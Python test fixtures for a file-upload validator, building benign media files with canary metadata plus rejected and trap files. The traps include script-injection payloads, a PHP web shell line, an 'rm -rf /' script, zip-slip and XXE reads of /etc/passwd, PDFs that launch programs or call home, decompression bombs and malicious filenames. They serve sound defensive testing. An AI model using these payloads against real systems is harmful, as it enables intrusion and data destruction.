"""Files of every kind that somebody might send, made here: good ones, broken ones, and traps.

`CANARY` stands in the notes of every good file: whoever is not entitled must never see it.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

import pillow_heif
from PIL import Image, ImageDraw, PngImagePlugin

CANARY = b"CANARY-39.9042-116.4074"
SCRIPT = b"<script>alert('CANARY-39.9042-116.4074')</script>"

pillow_heif.register_heif_opener()


def photo(mode: str = "RGB", size: tuple[int, int] = (64, 48), kind: str = "JPEG", **how: Any) -> bytes:
    """A picture with notes that say where it was taken, where its format can hold any."""
    image = Image.new(mode, size)
    ImageDraw.Draw(image).rectangle((0, 0, size[0] // 2, size[1] // 2), fill=_bright(mode))
    kept = io.BytesIO()
    image.save(kept, kind, **how)
    return kept.getvalue()


def _bright(mode: str) -> Any:
    return {"L": 200, "1": 1, "P": 3, "I;16": 40000, "LA": (200, 255), "RGBA": (200, 0, 0, 255)}.get(
        mode
    ) or ((10, 200, 30, 0) if mode == "CMYK" else (200, 0, 0))


def exif(turned: int = 1) -> Image.Exif:
    """Notes of a camera: its maker, the place, and which way up it was held."""
    found = Image.Exif()
    found[0x010F], found[0x0112] = CANARY.decode(), turned
    found.get_ifd(0x8825)[1], found.get_ifd(0x8825)[2] = "N", (39.0, 54.0, 15.0)
    found.get_ifd(0x8825)[29] = CANARY.decode()
    return found


def png_notes() -> PngImagePlugin.PngInfo:
    found = PngImagePlugin.PngInfo()
    found.add_text("Comment", CANARY.decode())
    found.add_itxt("XML:com.adobe.xmp", CANARY.decode())
    return found


def animated(kind: str) -> bytes:
    first, *others = [Image.new("RGB", (20, 20), colour) for colour in ("red", "green", "blue")]
    kept = io.BytesIO()
    first.save(kept, kind, save_all=True, append_images=others, duration=100)
    return kept.getvalue()


def png_of(width: int, height: int, body: bytes = b"") -> bytes:
    """A PNG that says it is so large, with next to nothing in it."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    data = chunk(b"IDAT", zlib.compress(body))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + data + chunk(b"IEND", b"")


def pdf(
    catalog: bytes = b"", page: bytes = b"", info: bytes = b"", pages: int = 1, extra: bytes = b""
) -> bytes:
    """A small PDF with something more in its catalogue, its pages or its notes; `extra` are whole objects."""
    kids = b" ".join(b"%d 0 R" % (10 + n) for n in range(pages))
    objects = [
        (1, b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog),
        (2, b"<< /Type /Pages /Count %d /Kids [%s] >>" % (pages, kids)),
        (3, b"<< /Author (%s) /Producer (%s) %s >>" % (CANARY, CANARY, info)),
        *(
            (10 + n, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] %s >>" % page)
            for n in range(pages)
        ),
    ]
    said, places = b"%PDF-1.7\n", {}
    for number, body in objects:
        places[number] = len(said)
        said += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    if extra:
        places[5000] = len(said)
        said += b"5000 0 obj\n" + extra + b"\nendobj\n"
    start = len(said)
    said += b"xref\n0 1\n0000000000 65535 f \n"
    for number, place in sorted(places.items()):
        said += b"%d 1\n%010d 00000 n \n" % (number, place)
    return said + b"trailer\n<< /Size 5001 /Root 1 0 R /Info 3 0 R >>\nstartxref\n%d\n%%%%EOF\n" % start


def mp3(frames: int = 20) -> bytes:
    return (b"\xff\xfb\x90\x00" + bytes(413)) * frames


def id3() -> bytes:
    body = b"TPE1" + struct.pack(">IH", len(CANARY) + 1, 0) + b"\x00" + CANARY
    return b"ID3\x03\x00\x00" + bytes([0, 0, len(body) >> 7, len(body) & 127]) + body


def wav() -> bytes:
    sound = b"fmt " + struct.pack("<IHHIIHH", 16, 1, 1, 8000, 8000, 1, 8) + b"data" + struct.pack("<I", 400)
    notes = b"LIST" + struct.pack("<I", 12 + len(CANARY) + 1) + b"INFOIART" + struct.pack("<I", len(CANARY))
    body = b"WAVE" + sound + bytes(400) + notes + CANARY + b"\0"
    return b"RIFF" + struct.pack("<I", len(body)) + body


def box(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", 8 + len(body)) + kind + body


def m4a(handler: bytes = b"soun") -> bytes:
    track = box(b"trak", box(b"mdia", box(b"hdlr", bytes(8) + handler + bytes(12))))
    notes = box(b"udta", box(b"\xa9xyz", CANARY))
    moov = box(b"moov", box(b"mvhd", bytes(100)) + track + notes)
    return box(b"ftyp", b"M4A \0\0\0\0M4A mp42") + moov + box(b"mdat", bytes(300)) + box(b"uuid", CANARY)


def ebml(kind: str, *inside: bytes, size: bytes | None = None) -> bytes:
    """A box of Matroska, its kind in hexadecimal; `size` instead of the true one."""
    body = b"".join(inside)
    return bytes.fromhex(kind) + (size if size is not None else struct.pack(">I", 1 << 28 | len(body))) + body


UNKNOWN = b"\x01" + b"\xff" * 7
OPUS_HEAD = b"OpusHead" + struct.pack("<BBHIhB", 1, 1, 0, 48000, 0, 0)


def webm_track(kind: bytes = b"\2", codec: bytes = b"A_OPUS", head: bytes = OPUS_HEAD, *more: bytes) -> bytes:
    named = (ebml("536e", CANARY), ebml("22b59c", b"zh"))
    about = (ebml("d7", b"\1"), ebml("73c5", CANARY[:8]), ebml("83", kind), ebml("86", codec))
    sound = ebml("e1", ebml("b5", struct.pack(">f", 48000)), ebml("9f", b"\1"))
    return ebml("ae", *about, ebml("63a2", head), sound, *named, *more)


def webm_cluster(at: int = 0, size: bytes | None = None) -> bytes:
    blocks = (ebml("a3", b"\x81\0" + bytes([60 * n]) + b"\x80\xf8\xff\xfe") for n in range(4))
    group = ebml("a0", ebml("a1", b"\x81\0\xf0\0\xf8\xff\xfe"), ebml("75a1", CANARY))
    return ebml("1f43b675", ebml("e7", struct.pack(">H", at)), *blocks, group, size=size)


def webm(
    *, tracks: bytes | None = None, size: bytes | None = None, rest: bytes = b"", kind: bytes = b"webm"
) -> bytes:
    """A recording as a browser makes it, with a place in everything that can hold one."""
    head = ebml("1a45dfa3", ebml("4286", b"\1"), ebml("4282", kind), ebml("ec", CANARY))
    info = ebml("1549a966", ebml("2ad7b1", b"\x0f\x42\x40"), ebml("4d80", CANARY), ebml("5741", CANARY),
                ebml("7ba9", CANARY), ebml("4461", bytes(8)))  # fmt: skip
    track = ebml("1654ae6b", webm_track()) if tracks is None else tracks
    notes = ebml("1254c367", ebml("7373", ebml("67c8", ebml("45a3", b"PLACE"), ebml("4487", CANARY))))
    kept = ebml("1941a469", ebml("61a7", ebml("466e", b"a.html"), ebml("465c", SCRIPT)))
    sound = webm_cluster(0, size) + webm_cluster(300, size)
    return head + ebml("18538067", ebml("ec", CANARY), info, track, sound, notes, kept, rest, size=size)


def zipped(names: tuple[str, ...] = ("a.txt",), content: bytes = b"x") -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in names:
            # A file's own time instead of now: the same bytes whenever it is made.
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return kept.getvalue()


NOTED = photo(exif=exif(), comment=CANARY)
GOOD: dict[str, Callable[[], bytes]] = {
    "jpeg with a place": lambda: NOTED,
    "jpeg held upside down": lambda: photo(exif=exif(3)),
    "jpeg held on its side": lambda: photo(exif=exif(6)),
    "jpeg of one pixel": lambda: photo(size=(1, 1), exif=exif()),
    "jpeg progressive": lambda: photo(progressive=True, exif=exif()),
    "jpeg grey": lambda: photo("L", exif=exif()),
    "jpeg cmyk": lambda: photo("CMYK", exif=exif()),
    "jpeg with bytes behind its end": lambda: NOTED + SCRIPT,
    "jpeg with a zip behind it": lambda: NOTED + zipped(),
    "jpeg with a page in its comment": lambda: photo(comment=SCRIPT),
    "jpeg with another colour profile": lambda: photo(icc_profile=b"x" * 100 + CANARY),
    "jpeg twelve megapixels": lambda: photo(size=(4000, 3000), exif=exif()),
    "jpeg a long chat": lambda: photo(size=(720, 9000)),
    "jpeg very wide": lambda: photo(size=(9000, 20)),
    "png with words": lambda: photo(kind="PNG", pnginfo=png_notes()),
    "png clear": lambda: photo("RGBA", kind="PNG", pnginfo=png_notes()),
    "png grey and clear": lambda: photo("LA", kind="PNG"),
    "png palette": lambda: photo("P", kind="PNG", pnginfo=png_notes()),
    "png black and white": lambda: photo("1", kind="PNG"),
    "png sixteen bits": lambda: photo("I;16", kind="PNG"),
    "png moving": lambda: animated("PNG"),
    "png with a page behind it": lambda: photo(kind="PNG") + SCRIPT,
    "png with exif": lambda: photo(kind="PNG", exif=exif()),
    "gif": lambda: photo("P", kind="GIF", comment=CANARY),
    "gif moving": lambda: animated("GIF"),
    "gif and page": lambda: photo("P", kind="GIF") + SCRIPT,
    "gif and javascript": lambda: photo("P", kind="GIF", comment=b"*/=1;alert(1)//" + CANARY),
    "webp": lambda: photo(kind="WEBP", exif=exif(), xmp=CANARY),
    "webp lossless": lambda: photo("RGBA", kind="WEBP", lossless=True),
    "webp moving": lambda: animated("WEBP"),
    "heic": lambda: photo(kind="HEIF", exif=exif()),
    "heic clear": lambda: photo("RGBA", kind="HEIF"),
    "heic held on its side": lambda: photo(kind="HEIF", exif=exif(6)),
    "pdf": pdf,
    "pdf with a script": lambda: pdf(b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\) %s) >>" % CANARY),
    "pdf with named scripts": lambda: pdf(
        b"/Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (%s) >>] >> >>" % CANARY
    ),
    "pdf that starts a program": lambda: pdf(b"/OpenAction << /S /Launch /F (calc.exe %s) >>" % CANARY),
    "pdf that calls home": lambda: pdf(page=b"/AA << /O << /S /URI /URI (http://x/%s) >> >>" % CANARY),
    "pdf with a link": lambda: pdf(
        page=b"/Annots [<< /Type /Annot /Subtype /Link /A << /S /URI /URI (http://x/%s) >> >>]" % CANARY
    ),
    "pdf with xmp": lambda: pdf(
        b"/Metadata 5000 0 R",
        extra=b"<< /Type /Metadata /Subtype /XML /Length %d >>\nstream\n%s\nendstream"
        % (len(CANARY), CANARY),
    ),
    "pdf with a form": lambda: pdf(b"/AcroForm << /Fields [] /XFA (%s) >>" % CANARY),
    "pdf of two hundred pages": lambda: pdf(pages=200),
    "mp3": mp3,
    "mp3 with tags": lambda: id3() + mp3(),
    "mp3 with tags behind it": lambda: mp3() + b"TAG" + CANARY.ljust(125, b"\0"),
    "wav with notes": wav,
    "m4a with a place": m4a,
    "amr": lambda: b"#!AMR\n" + b"\x3c" * 320,
    "amr wide": lambda: b"#!AMR-WB\n" + b"\x04" * 320,
    "ogg": lambda: b"OggS" + bytes(24) + b"OpusHead" + bytes(60),
    "webm with notes": webm,
    "webm begun before its length was known": lambda: webm(size=UNKNOWN),
    "webm with bytes behind its end": lambda: webm() + SCRIPT,
}
"""Taken in, and harmless for whoever looks."""

BAD: dict[str, tuple[str, Callable[[], bytes]]] = {
    "nothing": ("file_empty", lambda: b""),
    "one byte": ("file_not_accepted", lambda: b"\xff"),
    "zeros": ("file_not_accepted", lambda: bytes(4096)),
    "noise": ("file_not_accepted", lambda: bytes((n * 167 + 13) % 251 for n in range(4096))),
    "words": ("file_not_accepted", lambda: "这是我写的".encode()),
    "too large": ("file_too_large:21", lambda: b"\xff\xd8\xff" + bytes(20 * 1024 * 1024)),
    "jpeg cut off": ("picture_broken", lambda: NOTED[: len(NOTED) // 2]),
    "jpeg only its head": ("picture_broken", lambda: b"\xff\xd8\xff\xe0"),
    "jpeg and page": ("picture_broken", lambda: b"\xff\xd8\xff" + SCRIPT),
    "png cut off": ("picture_broken", lambda: photo(kind="PNG", size=(400, 400))[:120]),
    "png with a wrong sum": ("picture_broken", lambda: photo(kind="PNG").replace(b"IDAT", b"IDAU")),
    "png enormous": ("picture_too_large", lambda: png_of(65535, 65535)),
    "png a bomb": ("picture_too_large", lambda: png_of(30000, 30000, bytes(50_000_000))),
    "png without a body": ("picture_broken", lambda: png_of(64, 64)),
    "png of no size": ("picture_broken", lambda: png_of(0, 0)),
    "png a needle": ("picture_too_large", lambda: png_of(1, 2_000_000_000)),
    "gif cut off": ("picture_broken", lambda: photo("P", kind="GIF")[:14]),
    "gif only its head and a page": ("picture_broken", lambda: b"GIF89a" + SCRIPT),
    "gif enormous": (
        "picture_too_large",
        lambda: (
            b"GIF89a"
            + struct.pack("<HH", 65535, 65535)
            + bytes(20)
            + b","
            + struct.pack("<HHHH", 0, 0, 65535, 65535)
            + b"\0\x02\x02L\x01\0;"
        ),
    ),
    "webp cut off": ("picture_broken", lambda: photo(kind="WEBP", size=(300, 300))[:60]),
    "webp only its head": ("picture_broken", lambda: b"RIFF\x10\0\0\0WEBPVP8 "),
    "heic cut off": ("picture_broken", lambda: photo(kind="HEIF", size=(300, 300))[:200]),
    "heic only its head": ("picture_broken", lambda: box(b"ftyp", b"heic\0\0\0\0mif1heic")),
    "tiff": ("file_not_accepted", lambda: photo(kind="TIFF")),
    "bmp": ("file_not_accepted", lambda: photo(kind="BMP")),
    "ico": ("file_not_accepted", lambda: photo(kind="ICO", size=(16, 16))),
    "svg": ("file_web_page", lambda: b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
    "svg after xml": ("file_web_page", lambda: b"<?xml version='1.0'?><!DOCTYPE svg><svg/>"),
    "svg after a mark": ("file_web_page", lambda: b"\xef\xbb\xbf \n<svg/>"),
    "html": ("file_web_page", lambda: b"<!DOCTYPE html><html>" + SCRIPT),
    "html in capitals": ("file_web_page", lambda: b"\n\n<HTML><BODY ONLOAD=alert(1)>"),
    "php": ("file_web_page", lambda: b"<?php system($_GET['a']); ?>"),
    "laughs": (
        "file_web_page",
        lambda: b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "&b;&b;&b;">]><a>&a;</a>',
    ),
    "exe": ("file_program", lambda: b"MZ\x90\0" + bytes(200)),
    "elf": ("file_program", lambda: b"\x7fELF\x02\x01" + bytes(200)),
    "script": ("file_program", lambda: b"#!/bin/sh\nrm -rf /\n"),
    "class": ("file_program", lambda: b"\xca\xfe\xba\xbe" + bytes(60)),
    "zip": ("file_archive", zipped),
    "zip that leads out": ("file_archive", lambda: zipped(("../../etc/passwd",))),
    "zip bomb": ("file_archive", lambda: zipped(content=bytes(30_000_000))),
    "zip in zips": ("file_archive", lambda: zipped(("b.zip",), zipped(("a.zip",), zipped()))),
    "docx": ("file_archive", lambda: zipped(("[Content_Types].xml", "word/document.xml"))),
    "docx with entities": (
        "file_archive",
        lambda: zipped(("word/document.xml",), b"<!DOCTYPE a SYSTEM 'file:///etc/passwd'>"),
    ),
    "rar": ("file_archive", lambda: b"Rar!\x1a\x07\x01\0" + bytes(60)),
    "gzip": ("file_archive", lambda: b"\x1f\x8b\x08\0" + bytes(60)),
    "7z": ("file_archive", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(60)),
    "pdf cut off": ("pdf_broken", lambda: pdf()[:60]),
    "pdf only its head": ("pdf_broken", lambda: b"%PDF-1.7\n"),
    "pdf and page": ("pdf_broken", lambda: b"%PDF-1.4\n" + SCRIPT + b"%%EOF"),
    "page before a pdf": ("file_web_page", lambda: SCRIPT + pdf()),
    "words before a pdf": ("file_not_accepted", lambda: b"hello " + pdf()),
    "pdf with no page": ("pdf_broken", lambda: pdf(pages=0)),
    "pdf too long": ("pdf_too_long", lambda: pdf(pages=201)),
    "pdf that is its own page": (
        "pdf_broken",
        lambda: (
            b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 1 0 R >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF"
        ),
    ),
    "mp4": ("file_video", lambda: m4a(b"vide")),
    "mp4 of a brand": ("file_video", lambda: box(b"ftyp", b"qt  \0\0\0\0qt  ") + bytes(99)),
    "avif": ("file_video", lambda: box(b"ftyp", b"avif\0\0\0\0mif1") + bytes(99)),
    "half an mp3": ("file_not_accepted", lambda: b"\xff\xfb\x90\x00" + bytes(300)),
    "only tags": ("file_not_accepted", id3),
    "webm cut off": ("file_broken", lambda: webm()[:-400]),
    "webm cut off in its head": ("file_broken", lambda: webm()[:30]),
    "webm only its head": (
        "file_broken",
        lambda: (
            b"\x1aE\xdf\xa3\x9fB\x86\x81\x01B\xf7\x81\x01B\xf2\x81\x04B\xf3\x81\x08B\x82\x84webm" + bytes(90)
        ),
    ),
    "webm that says it is longer": ("file_broken", lambda: webm(rest=b"\xec\x08\0\0\0\0\0\0\0\x7f")),
    "webm with a track of no length": ("file_broken", lambda: webm(tracks=ebml("1654ae6b", size=UNKNOWN))),
    "webm without a track": ("file_broken", lambda: webm(tracks=b"")),
    "webm with two tracks": (
        "file_broken",
        lambda: webm(tracks=ebml("1654ae6b", webm_track(), webm_track())),
    ),
    "webm without a sound in it": (
        "file_broken",
        lambda: webm().replace(bytes.fromhex("1f43b675"), bytes.fromhex("1c53bb6b")),
    ),
    "webm film": ("file_video", lambda: webm(tracks=ebml("1654ae6b", webm_track(b"\1", b"V_VP8")))),
    "webm film with sound": (
        "file_video",
        lambda: webm(tracks=ebml("1654ae6b", webm_track(), webm_track(b"\1", b"V_VP8"))),
    ),
    "webm subtitles": (
        "file_not_accepted",
        lambda: webm(tracks=ebml("1654ae6b", webm_track(b"\x11", b"S_TEXT/UTF8"))),
    ),
    "webm of another codec": (
        "file_not_accepted",
        lambda: webm(tracks=ebml("1654ae6b", webm_track(codec=b"A_SOMETHING"))),
    ),
    "webm with another head": (
        "file_broken",
        lambda: webm(tracks=ebml("1654ae6b", webm_track(head=SCRIPT))),
    ),
    "webm with a page in its head": (
        "file_broken",
        lambda: webm(tracks=ebml("1654ae6b", webm_track(head=OPUS_HEAD + SCRIPT * 9))),
    ),
    "webm with a page for a number": (
        "file_broken",
        lambda: webm(tracks=ebml("1654ae6b", webm_track(), ebml("ec"))).replace(
            ebml("9f", b"\1"),
            ebml("9f", SCRIPT),
        ),
    ),
    "webm of nothing but boxes": (
        "file_broken",
        lambda: webm()[:53] + b"\x18S\x80g" + UNKNOWN + b"\xec\x80" * 5_000_000,
    ),
    "webm in itself": ("file_broken", lambda: webm()[:53] + (b"\x18S\x80g" + UNKNOWN) * 50_000),
    "matroska with a page in it": ("file_web_page", lambda: webm(kind=b"matroska")),
    "midi": ("file_not_accepted", lambda: b"MThd" + bytes(60)),
}
"""Refused, each with the code of its sentence."""

NAMES = (
    "../../../etc/passwd.jpg", "..\\..\\windows\\a.jpg", "a\0b.jpg", "photo\u202egpj.exe", "CON.jpg",
    ".htaccess", "a" * 300 + ".jpg", "照片😀👩‍👩‍👧.jpg", "x.jpg.exe", "a.svg", "a\r\nSet-Cookie: b.jpg",
    "'; DROP TABLE cases;--.jpg", "<script>alert(1)</script>.jpg", "", " ", "%00.jpg", "con:stream.jpg",
    "\ufffd.jpg",
)  # fmt: skip
"""What a file may be called: nothing of it counts, and nothing of it is kept."""
